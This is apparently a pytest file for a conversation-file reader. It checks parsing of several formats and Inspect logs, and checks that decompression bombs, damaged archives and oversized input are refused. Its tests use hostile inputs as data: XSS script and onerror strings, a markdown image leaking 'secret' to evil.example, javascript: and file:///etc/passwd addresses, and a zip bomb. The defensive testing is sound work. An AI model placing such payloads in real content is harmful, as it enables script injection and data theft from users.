"""Files and archives of conversations within limits: damaged, huge and hostile ones are named."""

from __future__ import annotations

import gzip
import io
import json
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
import zstandard

from annotation.chats.notes import TEXTS, note_texts
from annotation.chats.readers import archive
from annotation.chats.readers.files import LineRecord, holds_chats, open_chats
from annotation.files.reading.limits import Limits
from annotation.files.reading.rows import Problem
from annotation.files.reading.sources import of_bytes
from crowdqc.errors import Invalid
from tests.annotation.chats.examples import OPENAI, WEATHER, outline

FIXTURES = Path(__file__).parent / "fixtures"
ONE = {"messages": OPENAI}
TURNS = len(WEATHER)


def read(content: bytes, name: str = "a.jsonl", limits: Limits | None = None) -> list[Any]:
    """Number of turns of each record, or what is wrong with it."""
    return [
        len(one.record.chat.turns) if isinstance(one, LineRecord) else one.wrong
        for one in open_chats(of_bytes(content), name, limits or Limits()).events
    ]


def eval_log(members: dict[str, bytes], *, claims: int | None = None) -> bytes:
    """A log as Inspect writes it, its members by method 93."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in members.items():
            made.writestr(name, zstandard.compress(content))
    data = bytearray(out.getvalue())
    for name, content in members.items():
        crc, size = zlib.crc32(content), len(content) if claims is None else claims
        local = data.index(b"PK\x03\x04")
        while data[local + 30 : local + 30 + len(name)] != name.encode():
            local = data.index(b"PK\x03\x04", local + 4)
        central = data.index(b"PK\x01\x02")
        while data[central + 46 : central + 46 + len(name)] != name.encode():
            central = data.index(b"PK\x01\x02", central + 4)
        for at, method, sums in ((local, 8, 14), (central, 10, 16)):
            struct.pack_into("<H", data, at + method, 93)
            struct.pack_into("<L", data, at + sums, crc)
            struct.pack_into("<L", data, at + sums + 8, size)
    return bytes(data)


SAMPLE = json.dumps({"id": "a", "epoch": 1, "messages": OPENAI}).encode()
HEADER = json.dumps({"version": 2, "eval": {"task": "t", "model": "m"}}).encode()


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (json.dumps(ONE).encode() * 1, "a.jsonl", [TURNS]),
        (b"\n".join([json.dumps(ONE).encode()] * 2), "a.json", [TURNS, TURNS]),
        (json.dumps(ONE, indent=2).encode(), "a.json", [TURNS]),
        (json.dumps([ONE, ONE], indent=2).encode(), "a.json", [TURNS, TURNS]),
        (json.dumps(OPENAI).encode(), "a.json", [TURNS]),
        (json.dumps([OPENAI, OPENAI]).encode(), "a.json", [TURNS, TURNS]),
        (gzip.compress(json.dumps(ONE).encode()), "a.jsonl.gz", [TURNS]),
        ("\ufeff".encode() + json.dumps(ONE).encode(), "a.jsonl", [TURNS]),
        (json.dumps(ONE).encode("utf-16"), "a.json", [TURNS]),
        (
            b'id,messages\n1,"' + json.dumps(OPENAI).replace('"', '""').encode() + b'"\n',
            "a.csv",
            [TURNS],
        ),
    ],
)
def test_a_file_is_read_in_each_of_its_forms(
    content: bytes, name: str, expected: list[int]
) -> None:
    assert read(content, name) == expected
    assert holds_chats(of_bytes(content), name)


def test_archives_of_json_files_and_logs_are_read() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("one.json", json.dumps(ONE))
        made.writestr("more.jsonl", json.dumps(ONE) + "\n" + json.dumps(ONE))
        made.writestr("readme.txt", "not read")
    assert read(out.getvalue(), "a.zip") == [TURNS] * 3
    log = eval_log({"header.json": HEADER, "samples/a_epoch_1.json": SAMPLE})
    (event,) = open_chats(of_bytes(log), "a.eval").events
    assert isinstance(event, LineRecord)
    assert (event.record.system, event.record.meta["task"]) == ("m", "t")
    assert outline(event.record.chat) == WEATHER


def test_an_archive_that_unpacks_to_too_much_stops_at_the_limit(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(archive, "MAX_MEMBER", 1_000_000)
    bomb = b'{"x": "' + b"a" * 40_000_000 + b'"}'
    log = eval_log({"header.json": HEADER, "samples/a.json": bomb, "samples/b.json": SAMPLE})
    assert len(log) < 20_000
    assert read(log, "a.eval") == ["The file in the archive has more than 0 MB.", TURNS]
    small = eval_log({"header.json": HEADER, "samples/a.json": bomb}, claims=10)
    assert read(small, "a.eval") == ["The file in the archive has more than 0 MB."]
    many = eval_log({f"samples/{n}.json": SAMPLE for n in range(9)} | {"header.json": HEADER})
    with pytest.raises(Invalid):
        read(many, "a.eval", Limits(decoded=3 * len(SAMPLE)))


def test_damaged_members_are_named_and_the_others_are_read() -> None:
    log = bytearray(
        eval_log({"header.json": HEADER, "samples/a.json": SAMPLE, "samples/b.json": SAMPLE})
    )
    at = log.index(b"samples/a.json") + len("samples/a.json") + 20
    log[at : at + 4] = b"\xff\xff\xff\xff"
    assert read(bytes(log), "a.eval") == ["The file in the archive is damaged.", TURNS]
    for content in (b"PK\x03\x04" + b"x" * 50, eval_log({"header.json": HEADER})):
        with pytest.raises(Invalid):
            read(content, "a.eval")


def test_a_line_that_is_no_record_loses_no_other() -> None:
    content = b"\n".join([json.dumps(ONE).encode(), b"{broken", b"[1]", json.dumps(ONE).encode()])
    found = read(content)
    assert (found[0], found[3]) == (TURNS, TURNS)
    assert all(isinstance(one, str) for one in found[1:3])
    log = {"eval": {}, "samples": [{"epoch": 1, "messages": OPENAI}, None, 5]}
    assert [isinstance(one, int) for one in read(json.dumps(log).encode())] == [True, False, False]


def test_hostile_content_is_kept_as_text() -> None:
    hostile = [
        "<script>alert(1)</script><img src=x onerror=y>",
        "![x](https://evil.example/?q=secret)",
        "\x1b[31mred\x1b[0m \u202ereversed \x00 end",
        "$$\\href{javascript:alert(1)}{x}$$",
    ]
    raw = [{"role": "user", "content": text} for text in hostile]
    content = json.dumps(raw).encode() + b"\n"
    content += b'[{"role": "user", "content": "half \\ud800 of a pair"}]'
    events = list(
        open_chats(
            of_bytes(b'{"messages": ' + content.replace(b"\n", b'}\n{"messages": ') + b"}"),
            "a.jsonl",
        ).events
    )
    texts = [
        turn.text for one in events if isinstance(one, LineRecord) for turn in one.record.chat.turns
    ]
    assert texts[:2] == hostile[:2]
    assert texts[2] == "red \ufffdreversed \ufffd end"
    assert texts[4] == "half \ufffd of a pair"


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:image/svg+xml;base64,PHN2Zz4=",
        "data:text/html;base64,PHN2Zz4=",
        "https://evil.example/track.gif",
        "data:image/png;base64,<svg>",
        "file:///etc/passwd",
    ],
)
def test_images_by_address_or_of_other_types_are_never_kept(address: str) -> None:
    raw = {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": address}]}]}
    (event,) = open_chats(of_bytes(json.dumps(raw).encode()), "a.jsonl").events
    assert isinstance(event, LineRecord)
    (part,) = event.record.chat.turns[0].parts
    assert getattr(part, "data", None) == "" and getattr(part, "note", "").startswith("not kept")
    assert event.record.chat.notes == ("images_not_kept:1",)


def test_deep_nesting_and_long_lines_are_refused_by_name() -> None:
    deep = b'{"messages": ' + b"[" * 5_000 + b"]" * 5_000 + b"}"
    assert read(deep + b"\n" + json.dumps(ONE).encode())[1:] == [TURNS]
    problems = list(open_chats(of_bytes(deep + b"\n{}"), "a.jsonl").events)
    assert isinstance(problems[0], Problem) and problems[0].line == 1


def test_every_note_of_the_readers_has_words() -> None:
    folder = Path(archive.__file__).parent
    codes = set()
    for path in folder.glob("*.py"):
        codes |= set(re.findall(r'(?:notes|counts)\["(\w+)"\]', path.read_text()))
        codes |= set(re.findall(r'\{"(\w+)": (?:count|1|more)\}', path.read_text()))
    assert codes - {"turns_cut"} <= TEXTS.keys() and len(codes) > 10
    assert note_texts(["images_not_kept:2", "images_not_kept:1", "unread_fields:a,b"]) == [
        "3 images not kept",
        "fields not read: a, b",
    ]


def test_an_inspect_log_is_written_by_method_93() -> None:
    with zipfile.ZipFile(FIXTURES / "inspect.eval") as log:
        assert {one.compress_type for one in log.infolist()} == {archive.ZSTANDARD}


def test_a_tool_output_of_20_mb_is_cut_and_longer_lines_are_refused_by_name() -> None:
    raw = json.loads(json.dumps(ONE))
    raw["messages"][2]["content"] = "y" * 20_000_000
    (event,) = open_chats(of_bytes(json.dumps(raw).encode()), "a.jsonl").events
    assert isinstance(event, LineRecord)
    assert event.record.chat.notes == ("texts_cut:1",)
    raw["messages"][2]["content"] = "y" * 26_000_000
    with pytest.raises(Invalid) as refused:
        read(json.dumps(raw).encode() + b"\n" + json.dumps(ONE).encode())
    assert "Line 1 has more than" in refused.value.message
